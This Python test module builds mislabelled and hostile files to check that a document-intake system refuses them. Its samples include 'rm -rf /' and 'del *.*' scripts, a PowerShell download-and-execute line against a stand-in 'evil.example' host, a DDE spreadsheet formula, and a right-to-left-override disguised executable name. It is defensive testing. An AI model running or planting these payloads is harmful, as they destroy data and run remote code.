"""Documents that are not what their name or their sender says, or not of a type that is taken."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.honest import docx, packed, pdf, picture, xlsx
from tests.intake.hostile.paper import Hostile


def papers() -> Iterator[Hostile]:
    """All of them."""
    honest = {
        "a.pdf": (pdf(), "application/pdf"),
        "a.png": (picture("PNG"), "image/png"),
        "a.jpg": (picture("JPEG"), "image/jpeg"),
        "a.tif": (picture("TIFF"), "image/tiff"),
        "a.docx": (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "a.xlsx": (xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        "a.zip": (packed({"a.pdf": pdf()}), "application/zip"),
    }
    for filename, (content, _) in honest.items():
        for other, (_, said) in honest.items():
            if other != filename:
                yield Hostile(f"{filename} called {other}", other, content, "refused", "its name ends in")
                yield Hostile(f"{filename} said to be {said}", filename, content, "refused", "media_type", said)
    for ending in ("exe", "docm", "js", "html", "lnk", "pdf.exe", "pdf.scr", "\u202efdp.exe", "txt"):
        yield Hostile(f"a PDF called {ending!r}", f"a.{ending}", pdf(), "refused", "its name ends in")
    for name, content in {
        "empty": b"",
        "a program": b"MZ\x90\0" + bytes(200),
        "a program for Linux": b"\x7fELF\2\1\1" + bytes(200),
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a batch file": b"@echo off\r\ndel *.*\r\n",
        "PowerShell": b"Invoke-WebRequest https://evil.example/ | iex\n",
        "a web page": b"<!DOCTYPE html><html><script>1</script></html>",
        "a web page behind a word": b"hello <html><script>1</script></html>",
        "a shortcut to the web": b"[InternetShortcut]\r\nURL=https://evil.example/\r\n",
        "RTF": rb"{\rtf1\ansi text}",
        "PostScript": b"%!PS-Adobe-3.0\n",
        "formulas": b"=cmd|'/c calc'!A0,1,2\n",
        "XML with a style sheet": b"<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/'?><a/>",
        "a program and a PDF": b"MZ\x90\0" + pdf(),
        "a script and a PDF": b"/* " + pdf() + b" */ alert(1)",
        "RAR": b"Rar!\x1a\x07\0" + bytes(64),
        "7-Zip": b"7z\xbc\xaf\x27\x1c" + bytes(64),
        "gzip": b"\x1f\x8b\x08\0" + bytes(64),
        "a disk": b"\xeb\x3c\x90MSDOS5.0" + bytes(500),
        "zeros": bytes(4096),
        "a word": b"hello",
    }.items():
        yield Hostile(name, "document", content, "refused")
